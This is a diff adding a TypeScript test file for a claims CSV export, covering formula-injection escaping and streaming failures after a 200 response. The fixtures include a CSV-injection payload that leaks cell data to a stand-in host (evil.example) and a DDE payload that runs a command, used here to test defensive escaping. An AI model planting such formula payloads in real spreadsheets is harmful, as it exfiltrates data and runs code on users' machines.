@@ -1,0 +1,194 @@
+// Claim exports under hostile text and hostile networks: formula cells neutralised, a client that leaves stops the
+// export, a failure after the 200 is never a clean end.
+import { subscribe, unsubscribe } from 'node:diagnostics_channel';
+import http from 'node:http';
+import net from 'node:net';
+import { poolOf } from '@claimgraph/db';
+import pg from 'pg';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { exportEvents, type ExportEnd } from '../src/export/claims-export.js';
+import { data } from './testkit/client.js';
+import { startTestApi, type TestApi } from './testkit/api.js';
+
+let api: TestApi;
+beforeAll(async () => {
+  api = await startTestApi();
+});
+afterAll(async () => api?.stop());
+
+/** RFC 4180 fields of a CSV document. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  const endCell = () => {
+    row.push(cell);
+    cell = '';
+  };
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch !== '"') cell += ch;
+      else if (text[i + 1] === '"') cell += text[++i];
+      else quoted = false;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') endCell();
+    else if (ch === '\r' && text[i + 1] === '\n') {
+      endCell();
+      rows.push(row);
+      row = [];
+      i++;
+    } else cell += ch;
+  }
+  if (cell || row.length) {
+    endCell();
+    rows.push(row);
+  }
+  return rows;
+}
+
+/** The next export's end, as the server reports it. */
+function nextExportEnd(timeoutMs: number): Promise<ExportEnd> {
+  return new Promise((resolve, reject) => {
+    const timer = setTimeout(() => {
+      unsubscribe(exportEvents.name, on);
+      reject(new Error(`no export ended within ${timeoutMs} ms`));
+    }, timeoutMs);
+    const on = (message: unknown) => {
+      clearTimeout(timer);
+      unsubscribe(exportEvents.name, on);
+      resolve(message as ExportEnd);
+    };
+    subscribe(exportEvents.name, on);
+  });
+}
+
+describe('CSV injection', () => {
+  test('cells from article text that start with = + - @ tab or CR are prefixed with a quote', async () => {
+    const outlet = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
+    const text = [
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '',
+      '=2+5 missiles hit the base on Monday, the ministry said in a statement, according to Reuters.',
+      '-1 Officials said the convoy was struck twice, the spokesman told reporters.',
+    ].join('\n');
+    const r = await data(
+      api.url,
+      `mutation($input: IngestArticleInput!) { ingestArticle(input: $input) { ok { article { id } } error { code message } } }`,
+      { input: { text, outlet, url: 'https://evil.example/a' } },
+    );
+    expect(r.ingestArticle.error).toBeNull();
+    const res = await fetch(`${api.base}/export/claims.csv`);
+    expect(res.status).toBe(200);
+    const rows = parseCsv(await res.text());
+    const header = rows[0]!;
+    const hostile = rows.filter((row) => row[header.indexOf('outlet')]!.includes('HYPERLINK'));
+    expect(hostile.length).toBeGreaterThan(0);
+    for (const row of hostile) {
+      expect(row[header.indexOf('outlet')]).toBe(`'${outlet}`);
+      expect(row[header.indexOf('attribution_chain')]!.startsWith("'=HYPERLINK")).toBe(true);
+    }
+    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(formulas).toEqual([]);
+  });
+});
+
+describe('streaming faults', () => {
+  const CLAIMS = 1100;
+  beforeAll(async () => {
+    // ~20 MB of claims: more than the first batch's 500 rows and far more than the socket buffers hold.
+    const [one] = await api.db.$queryRaw<{ id: number }[]>`SELECT id FROM "Claim" ORDER BY id LIMIT 1`;
+    await api.db.$executeRaw`
+      INSERT INTO "Claim" ("workspaceId", "articleId", "sourceId", "extractionKey", text, "evidenceStart", "evidenceEnd", modality)
+      SELECT c."workspaceId", c."articleId", c."sourceId", 'bulk-' || g, repeat('A long claim for the export test. ', 550), c."evidenceStart", c."evidenceEnd", c.modality
+        FROM "Claim" c, generate_series(1, ${CLAIMS}::int) g WHERE c.id = ${one!.id}`;
+  });
+
+  const busyConnections = () => {
+    const pool = poolOf(api.db);
+    return pool.totalCount - pool.idleCount;
+  };
+
+  test('a client that disconnects mid-export stops it at once and nothing holds a database connection', async () => {
+    const ended = nextExportEnd(10_000);
+    await new Promise<void>((resolve, reject) => {
+      const req = http.get(`${api.base}/export/claims.csv`, { agent: false }, (res) => {
+        expect(res.statusCode).toBe(200);
+        res.once('data', () => {
+          req.destroy();
+          resolve();
+        });
+      });
+      req.on('error', (err) => (err.message === 'socket hang up' ? undefined : reject(err)));
+    });
+    const end = await ended;
+    expect(end.outcome).toBe('client-gone');
+    expect(end.rows).toBeLessThan(CLAIMS);
+    const statements = api.statements.count;
+    await new Promise((r) => setTimeout(r, 300));
+    expect(api.statements.count).toBe(statements);
+    expect(busyConnections()).toBe(0);
+  });
+
+  /** Holds the claims' relation table locked, so the export's next batch waits past the statement timeout (5 s in tests). */
+  async function lockRelations(): Promise<() => Promise<void>> {
+    const client = new pg.Client({ connectionString: poolOf(api.db).options.connectionString });
+    await client.connect();
+    await client.query('BEGIN');
+    await client.query('LOCK TABLE "ClaimRelation" IN ACCESS EXCLUSIVE MODE');
+    return async () => {
+      await client.query('ROLLBACK');
+      await client.end();
+    };
+  }
+
+  test('HTTP/1.1: a database failure after the 200 aborts the chunked body instead of ending it cleanly', async () => {
+    const ended = nextExportEnd(30_000);
+    let unlock: (() => Promise<void>) | null = null;
+    const outcome = await new Promise<{ status: number; complete: boolean; tail: string }>((resolve, reject) => {
+      http
+        .get(`${api.base}/export/claims.csv`, { agent: false }, (res) => {
+          res.pause();
+          // The first batch fills the socket; the next one is read while the relation table is locked.
+          lockRelations().then((u) => {
+            unlock = u;
+            let tail = '';
+            res.on('data', (chunk: Buffer) => (tail = (tail + chunk.toString('utf8')).slice(-400)));
+            res.on('end', () => resolve({ status: res.statusCode!, complete: res.complete, tail }));
+            res.on('error', () => resolve({ status: res.statusCode!, complete: res.complete, tail }));
+            res.on('close', () => resolve({ status: res.statusCode!, complete: res.complete, tail }));
+            res.resume();
+          }, reject);
+        })
+        .on('error', reject);
+    });
+    await (unlock as (() => Promise<void>) | null)?.();
+    expect(outcome.status).toBe(200);
+    expect(outcome.complete).toBe(false);
+    expect((await ended).outcome).toBe('failed');
+  });
+
+  test('HTTP/1.0 (body ends with the connection): a failure after the 200 ends with a line saying the file is incomplete', async () => {
+    const ended = nextExportEnd(30_000);
+    const port = Number(new URL(api.base).port);
+    const socket = net.connect(port);
+    await new Promise((r) => socket.once('connect', r));
+    socket.write(`GET /export/claims.csv HTTP/1.0\r\nHost: 127.0.0.1:${port}\r\n\r\n`);
+    let received = '';
+    await new Promise<void>((resolve) => socket.once('data', (chunk: Buffer) => ((received += chunk.toString('utf8')), resolve())));
+    socket.pause();
+    const unlock = await lockRelations();
+    const body = await new Promise<string>((resolve) => {
+      socket.on('data', (chunk: Buffer) => (received += chunk.toString('utf8')));
+      socket.on('close', () => resolve(received));
+      socket.resume();
+    });
+    await unlock();
+    expect(body.startsWith('HTTP/1.1 200')).toBe(true);
+    expect(body).not.toMatch(/transfer-encoding: chunked/i);
+    const end = await ended;
+    expect(end.outcome).toBe('failed');
+    expect(body.trimEnd().split('\r\n').at(-1)).toBe(`"# EXPORT INCOMPLETE: the export failed after ${end.rows} claims; this file is not the full result. Try again."`);
+  });
+});
